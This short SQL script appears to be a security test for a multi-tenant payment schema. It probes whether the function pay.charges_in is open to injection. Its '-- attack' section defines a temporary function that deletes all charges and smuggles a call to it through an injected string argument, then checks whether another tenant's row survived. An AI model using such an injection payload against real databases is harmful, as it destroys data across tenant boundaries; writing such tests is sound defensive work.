-- rows
insert into pay.charge values ('b0000000-0000-4000-8000-000000000002', 'c0000000-0000-4000-8000-00000000000c', 7, 'x');

-- attack
set session authorization pay_app;
set pay.tenant = 'a0000000-0000-4000-8000-000000000001';
create function pg_temp.erase() returns boolean volatile language plpgsql as $$
begin
    delete from pay.charge;
    return true;
end $$;
select pay.charges_in('x'' or pg_temp.erase() or ''x'' = ''y');

-- seen
reset session authorization;
select not exists (select from pay.charge where tenant_id = 'b0000000-0000-4000-8000-000000000002') as seen;
